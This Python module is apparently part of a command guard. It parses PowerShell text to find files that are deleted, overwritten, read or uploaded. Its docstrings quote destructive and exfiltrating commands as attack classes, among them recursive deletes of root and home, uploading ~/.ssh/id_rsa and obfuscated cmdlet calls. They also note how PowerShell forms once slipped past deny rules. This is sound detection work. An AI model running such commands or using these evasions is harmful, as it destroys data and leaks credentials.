"""Files a PowerShell command line deletes, overwrites, reads or uploads, read from its text.

Attack class: a delete or an upload written in PowerShell (``pwsh -c``, which runs on Linux
and macOS too). ``rm -rf /srv/data`` was denied (``action.delete_outside``) and ``pwsh -c
"Remove-Item -Recurse /srv/data"`` allowed; ``curl -T ~/.ssh/id_rsa URL`` was denied
(``action.sensitive_upload``) and ``pwsh -c "Invoke-RestMethod -InFile ~/.ssh/id_rsa URL"``
allowed. :func:`pwsh_files` reads each statement's cmdlet (its name or a built-in alias, any
case) and its path parameters, named by any prefix of their name (PowerShell's
about_Parameters) or given by position; the caller records each as ``rm``, ``>``, ``cat``
and ``curl -T`` record theirs. A path PowerShell computes (a variable other than the home
directory's, a subexpression, an escape) is :data:`DYNAMIC`: a target computed at run time,
asked about. Pure: no I/O.
"""

from __future__ import annotations

import re
import shlex

from cordon.engine.cmd_exe import posix_path
from cordon.engine.platform_names import home_reading

__all__ = ["pwsh_commands", "pwsh_computed_call", "pwsh_files", "pwsh_lines", "pwsh_piped"]

#: a value known only at run time (the shell guard's marker, :data:`.shell.DYNAMIC`)
DYNAMIC = "\x00"

#: cmdlet -> (op, path parameters, positions of path arguments; -1: every positional one)
_CMDLETS: dict[str, tuple[str, tuple[str, ...], tuple[int, ...]]] = {
    "remove-item": ("delete", ("path", "literalpath"), (-1,)),
    "clear-content": ("overwrite", ("path", "literalpath"), (-1,)),
    "clear-item": ("overwrite", ("path", "literalpath"), (-1,)),
    "set-content": ("overwrite", ("path", "literalpath"), (0,)),
    "add-content": ("overwrite", ("path", "literalpath"), (0,)),
    "out-file": ("overwrite", ("filepath", "literalpath"), (0,)),
    "tee-object": ("overwrite", ("filepath", "literalpath"), (0,)),
    "export-csv": ("overwrite", ("path", "literalpath"), (0,)),
    "export-clixml": ("overwrite", ("path", "literalpath"), (0,)),
    "new-item": ("overwrite", ("path",), (0,)),
    "copy-item": ("overwrite", ("destination",), (1,)),
    "move-item": ("delete", ("path", "literalpath"), (0,)),
    "rename-item": ("delete", ("path", "literalpath"), (0,)),
    "get-content": ("read", ("path", "literalpath"), (0,)),
    "import-csv": ("read", ("path", "literalpath"), (0,)),
    "invoke-webrequest": ("upload", ("infile",), ()),
    "invoke-restmethod": ("upload", ("infile",), ()),
    "send-mailmessage": ("upload", ("attachments",), ()),
    # (the registry's provider: HKLM:\\X as cmd's reg add/delete is read)
    "set-itemproperty": ("overwrite", ("path", "literalpath"), (0,)),
    "new-itemproperty": ("overwrite", ("path", "literalpath"), (0,)),
    "remove-itemproperty": ("delete", ("path", "literalpath"), (0,)),
    "compress-archive": ("overwrite", ("destinationpath",), (1,)),
    "expand-archive": ("overwrite", ("destinationpath",), (1,)),
    "start-bitstransfer": ("upload", ("source",), (0,)),
}
#: second readings: a move's destination is overwritten, a download's output file written
_ALSO: dict[str, tuple[str, tuple[str, ...], tuple[int, ...]]] = {
    "move-item": ("overwrite", ("destination",), (1,)),
    "invoke-webrequest": ("overwrite", ("outfile",), ()),
    "invoke-restmethod": ("overwrite", ("outfile",), ()),
    "compress-archive": ("read", ("path", "literalpath"), (0,)),
    "start-bitstransfer": ("overwrite", ("destination",), (1,)),
}
_ALIASES = {
    "ri": "remove-item", "rm": "remove-item", "rmdir": "remove-item", "del": "remove-item",
    "erase": "remove-item", "rd": "remove-item", "clc": "clear-content", "cli": "clear-item",
    "sc": "set-content", "ac": "add-content", "tee": "tee-object", "epcsv": "export-csv",
    "ni": "new-item", "cpi": "copy-item", "cp": "copy-item", "copy": "copy-item",
    "mi": "move-item", "mv": "move-item", "move": "move-item", "rni": "rename-item",
    "ren": "rename-item", "gc": "get-content", "cat": "get-content", "type": "get-content",
    "ipcsv": "import-csv", "iwr": "invoke-webrequest", "curl": "invoke-webrequest",
    "wget": "invoke-webrequest", "irm": "invoke-restmethod",
}  # fmt: skip
#: parameters (of any cmdlet above) that take no value
_SWITCHES = frozenset(
    {"recurse", "force", "whatif", "confirm", "nonewline", "append", "passthru", "noclobber",
     "usebasicparsing", "verbose", "debug", "container", "asbytestream", "raw", "wait",
     "skipcertificatecheck", "notypeinformation", "usedefaultcredentials", "resume",
     "skipheadervalidation", "disablekeepalive", "allowunencryptedauthentication", "bodyasjson",
     "file", "directory", "hidden", "system", "name", "readonly", "followsymlink"}
)  # fmt: skip
#: a statement, or a parenthesised one inside another (``-Body (Get-Content F)``)
_STATEMENT_RE = re.compile(r"""(?:'(?:[^']|'')*'|"(?:[^"`]|`.)*"|`.|[^;|&\n()'"`])+""")
#: the same, a script block's braces splitting statements too (``& { Remove-Item X }``,
#: ``icm { ... }``, ``if (...) { ... }``: each statement in the block runs); ``${x}`` kept
_BLOCK_STATEMENT_RE = re.compile(
    r"""(?:'(?:[^']|'')*'|"(?:[^"`]|`.)*"|`.|\$\{[^}]*\}|[^;|&\n(){}'"`])+"""
)
#: an assignment before a statement's command (``$c = Get-Content F``)
_ASSIGN_RE = re.compile(r"^\s*\$[\w:]+\s*[-+*/]?=\s*")
#: a module-qualified cmdlet name (``Microsoft.PowerShell.Management\Remove-Item``)
_MODULE_RE = re.compile(r"^[\w.]+\\(?=[a-z]+-[a-z])")
#: a registry provider path (``HKLM:\X``, ``Registry::HKEY_LOCAL_MACHINE\X``), read as cmd's
#: ``reg`` keys are: under ``\\?\REGISTRY``, outside every prefix
_REGISTRY_RE = re.compile(r"(?i)^(?:registry::)?(hk(?:lm|cu|cr|u|cc)|hkey_\w+):?(?=\\|$)")
#: cmdlets that change the directory later relative paths are under
_LOCATION = frozenset({"set-location", "sl", "cd", "chdir", "push-location", "pushd"})
#: .NET's file calls: ``[IO.File]::Delete('p')``, ``[System.IO.Directory]::Delete($HOME, 1)``
_DOTNET_RE = re.compile(
    r"(?i)\[(?:System\.)?IO\.(?:File|Directory)\]::(Delete|Write\w*|Append\w*|Move|Replace"
    r"|Read\w*|Open\w*|Create\w*)\s*\(\s*('(?:[^']|'')*'|\"[^\"]*\"|[^,)]+)"
)
_DOTNET_OPS = {"delete": "delete", "move": "delete", "read": "read"}
_WORD_RE = re.compile(r"""(?:'(?:[^']|'')*'|"(?:[^"`]|`.)*"|[^\s'"])+""")


def pwsh_files(code: str, *, cmdlets_only: bool = False) -> list[tuple[str, str]]:
    """``(path, op)`` for each file the PowerShell text ``code`` deletes (``delete``),
    overwrites (``overwrite``), reads (``read``) or sends (``upload``); ``cmdlets_only``:
    only statements that name a cmdlet in full (``Remove-Item``, not ``rm``), for a line that
    may be POSIX shell as well (PowerShell as a tool's shell, no ``pwsh -c``)."""
    out: list[tuple[str, str]] = []
    if cmdlets_only and _CMDLET_HINT_RE.search(code) is None:
        return out
    for m in _DOTNET_RE.finditer(code):
        verb = m.group(1).lower()
        op = next((v for k, v in _DOTNET_OPS.items() if verb.startswith(k)), "overwrite")
        out.append((_value(m.group(2).strip()), op))
    where: str | None = None  # (a Set-Location's directory; None: the starting one)
    for m in _BLOCK_STATEMENT_RE.finditer(code):
        words = _words(m.group())
        if code[m.end() : m.end() + 1] == "(":  # (Remove-Item (Join-Path $HOME x))
            words.append("$()")
        if not words:
            continue
        name = _value(words[0]).lower()
        if cmdlets_only and "-" not in name:
            continue
        name = _ALIASES.get(name, name)
        if name in _LOCATION or name in ("pop-location", "popd"):
            where = _located(where, name, words[1:])
        for table in (_CMDLETS, _ALSO):
            spec = table.get(name)
            if spec is not None:
                found = _paths(words[1:], spec[1], spec[2])
                out += [(_under(where, p), spec[0]) for p in found]
    out += [(path, op) for path, op, _recursive in (() if cmdlets_only else pwsh_piped(code))]
    return [(posix_path(_registry(p)), op) for p, op in out]  # (C:\x: under no POSIX prefix)


def _words(statement: str) -> list[str]:
    """A statement's words, from its command's name: an assignment before it, the call or
    dot-source operator and a module qualifier removed."""
    words = _WORD_RE.findall(_ASSIGN_RE.sub("", statement, count=1))
    while words and words[0] in ("&", "."):  # (& 'Remove-Item' X: the call operator)
        words = words[1:]
    if words and "\\" in words[0]:
        words[0] = _MODULE_RE.sub("", words[0].lower())
    return words


def _absolute(path: str) -> bool:
    return bool(re.match(r"[A-Za-z]:|[\\/~]|\x00", path))


def _located(where: str | None, name: str, args: list[str]) -> str | None:
    """The directory after ``Set-Location DIR`` (``cd``, ``Push-Location``) from ``where``;
    after ``Pop-Location`` one no rule can tell (:data:`DYNAMIC`)."""
    if name in ("pop-location", "popd"):
        return DYNAMIC if where is not None else None
    target = (_paths(args, ("path", "literalpath"), (0,)) or ["~"])[0]
    return target if where is None or _absolute(target) else f"{where}/{target}"


def _under(where: str | None, path: str) -> str:
    """``path`` as the directory ``where`` a Set-Location moved to resolves it."""
    return path if where is None or _absolute(path) else f"{where}/{path}"


def _registry(path: str) -> str:
    m = _REGISTRY_RE.match(path)
    return path if m is None else "\\\\?\\REGISTRY\\" + m.group(1).upper() + path[m.end() :]


#: cmdlets that list items and pass them down a pipeline: their path parameters
_LISTERS = {
    "get-childitem": ("path", "literalpath"),
    "get-item": ("path", "literalpath"),
    "resolve-path": ("path", "literalpath"),
}
_LIST_ALIASES = {
    "gci": "get-childitem",
    "ls": "get-childitem",
    "dir": "get-childitem",
    "gi": "get-item",
    "rvpa": "resolve-path",
}
#: stages that pass (some of) the items they get on: filters, not producers
_PASSING = frozenset(
    {
        "where-object",
        "where",
        "?",
        "select-object",
        "select",
        "sort-object",
        "sort",
        "get-unique",
        "gu",
        "tee-object",
    }
)
#: a full cmdlet name of :data:`_CMDLETS` or a .NET file call (else ``cmdlets_only`` finds none)
_CMDLET_HINT_RE = re.compile(
    r"(?i)\b(?:remove|clear|set|add|out|tee|export|new|copy|move|rename|get|import|invoke|send)"
    r"-\w|\[(?:system\.)?io\."
)
#: a listing cmdlet or alias (else no pipeline is fed by one)
_LISTING_HINT_RE = re.compile(r"(?i)\b(?:get-childitem|gci|ls|dir|get-item|gi|resolve-path|rvpa)\b")
#: a quoted literal piped into the next stage (``'/srv/data' | Remove-Item -Recurse``)
_LITERAL_PIPED_RE = re.compile(r"['\"]\s*\|")
#: a stage that runs a script block for each item: its deleting cmdlet gets the items
_FOREACH = frozenset({"foreach-object", "%", "foreach"})
_RECURSE_RE = re.compile(r"(?i)-r(?:e(?:c(?:u(?:r(?:se?)?)?)?)?)?(?::\$?true)?")


def pwsh_piped(code: str) -> list[tuple[str, str, bool]]:
    """``(path, op, recursive)`` for each deleting or overwriting cmdlet that names no path and
    takes its items from a pipeline that starts with a listing (``gci C:\\ | Remove-Item``):
    the listing's path, the cmdlet's op, and whether either stage recurses.

    Attack class: ``Get-ChildItem $HOME -Recurse | Remove-Item -Force`` deletes the home
    directory's tree, and its deleting statement names no path (about_Pipelines: the cmdlet
    binds the piped items to its path parameter, ValueFromPipeline)."""
    out: list[tuple[str, str, bool]] = []
    if _LISTING_HINT_RE.search(code) is None and _LITERAL_PIPED_RE.search(code) is None:
        return out
    listed: list[str] | None = None  # (the paths the pipeline's items come from)
    recursive = False
    end = 0
    for m in _STATEMENT_RE.finditer(code):
        piped = code[end : m.start()].strip() == "|"
        end = m.end()
        words = _words(m.group())
        name = _value(words[0]).lower() if words else ""
        name = _LIST_ALIASES.get(name, _ALIASES.get(name, name))
        if not piped:
            listed, recursive = None, False
        if len(words) == 1 and words[0][:1] in ("'", '"'):  # ('/srv/data' | Remove-Item)
            listed, recursive = [_value(words[0])], False
            continue
        if name in _LISTERS:
            listed = _paths(words[1:], _LISTERS[name], (0,)) or ["."]
            recursive = any(_RECURSE_RE.fullmatch(w) for w in words[1:])
            continue
        each = name in _FOREACH and listed is not None  # (gci ~ | % { Remove-Item $_ -r })
        if each:
            inner = [_ALIASES.get(_value(w).lower(), _value(w).lower()) for w in words[1:]]
            name = next((w for w in inner if _CMDLETS.get(w, ("read",))[0] != "read"), name)
        spec = _CMDLETS.get(name)
        if listed is not None and spec is not None and spec[0] != "read":
            if each or not _paths(words[1:], spec[1], spec[2]):
                deep = recursive or any(_RECURSE_RE.fullmatch(w) for w in words[1:])
                out += [(p, spec[0], deep) for p in listed]
        if name not in _PASSING:
            listed = None
    return out


def _paths(words: list[str], names: tuple[str, ...], positions: tuple[int, ...]) -> list[str]:
    """The values of the path parameters ``names`` (any prefix of the name, ``-P X`` or
    ``-P:X``) and of the positional arguments at ``positions``, each item of a list."""
    found: list[str] = []
    plain: list[str] = []
    i = 0
    while i < len(words):
        w = words[i]
        if re.match(r"-[A-Za-z]", w):
            param, colon, value = w[1:].partition(":")
            param = param.lower()
            # (a switch by any prefix of its name: -r, -Rec are -Recurse, not a path's name)
            switch = any(sw.startswith(param) for sw in _SWITCHES)
            switch = switch and not any(n.startswith(param) for n in names)
            if not colon and not switch and i + 1 < len(words):
                i += 1
                value = words[i]
            if any(n.startswith(param) for n in names):
                found.append(value)
        else:
            plain.append(w)
        i += 1
    found += [w for k, w in enumerate(plain) if k in positions or -1 in positions]
    return [_value(item) for w in found for item in _items(w)]


def _items(word: str) -> list[str]:
    """The items of a comma-separated list outside quotes (``a,'b'``)."""
    return [x for x in re.findall(r"""(?:'(?:[^']|'')*'|"(?:[^"`]|`.)*"|[^,])+""", word) if x]


def _value(word: str) -> str:
    """A word's value: single quotes literal, the home directory as ``~``, anything else
    PowerShell computes (a variable, ``$(...)``, an escape, a script block) :data:`DYNAMIC`."""
    if len(word) > 1 and word[0] == word[-1] == "'":
        return word[1:-1].replace("''", "'")
    if len(word) > 1 and word[0] == word[-1] == '"':
        word = word[1:-1]
    word = home_reading(word) or word  # (the home directory's variables, as a path argument's)
    return DYNAMIC if any(c in word for c in "$`@({") else word


_START = frozenset({"start-process", "saps", "start"})


def pwsh_lines(code: str) -> list[str]:
    """The command lines ``Start-Process PROG -ArgumentList A,B`` (``saps``, ``start``) runs,
    as a shell would read them (attack class: ``Start-Process rm -ArgumentList '-rf','/'``
    ran ``rm -rf /`` unread); a program or argument computed at run time stays
    :data:`DYNAMIC` in the line (opaque to the parser). A recursive delete fed by a listing
    (:func:`pwsh_piped`) is given as the ``Remove-Item -Recurse PATH`` it amounts to, for the
    rules that read command text (``action.rm_root``)."""
    out: list[str] = []
    for m in _STATEMENT_RE.finditer(code):
        words = _WORD_RE.findall(m.group())
        if not words or _value(words[0]).lower() not in _START:
            continue
        prog = _paths(words[1:], ("filepath",), (0,))
        argv = _paths(words[1:], ("argumentlist", "args"), (1,))
        if prog:
            out.append(" ".join([shlex.quote(prog[0]), *argv]))  # (joined, as it runs them)
    for path, op, recursive in pwsh_piped(code):  # (gci C:\ | ri -r: as ri -r C:\ reads)
        if op == "delete" and recursive:
            out.append(f"Remove-Item -Recurse -- {shlex.quote(path)}")
    return out


#: the call or dot-source operator given a name PowerShell computes: ``& ('Remove'+'-Item')``,
#: ``& $cmd``, ``. $script`` (about_Operators: the call operator runs a string or a variable)
_COMPUTED_CALL_RE = re.compile(r"(?:^|[;|{(\n]|&&|\|\|)\s*[&.]\s*[($]")


def pwsh_computed_call(code: str) -> bool:
    """``code`` calls a command whose name PowerShell computes at run time (attack class:
    ``& ('Remove'+'-Item') -Recurse C:\\Users``, read as no cmdlet at all)."""
    return ("&" in code or "." in code) and _COMPUTED_CALL_RE.search(code) is not None


def pwsh_commands(code: str, names: frozenset[str]) -> list[tuple[str, tuple[str, ...]]]:
    """``(cmdlet, args)`` of each statement of ``code`` whose cmdlet (its name or a built-in
    alias, any case) is one of ``names``; the words with their quotes removed, for the
    command judges that read a parsed shell command (:mod:`.system_commands`)."""
    out: list[tuple[str, tuple[str, ...]]] = []
    for m in _BLOCK_STATEMENT_RE.finditer(code):
        words = _words(m.group())
        name = _value(words[0]).lower() if words else ""
        name = _ALIASES.get(name, name)
        if name in names:
            out.append((name, tuple(w.strip("'\"") for w in words[1:])))
    return out
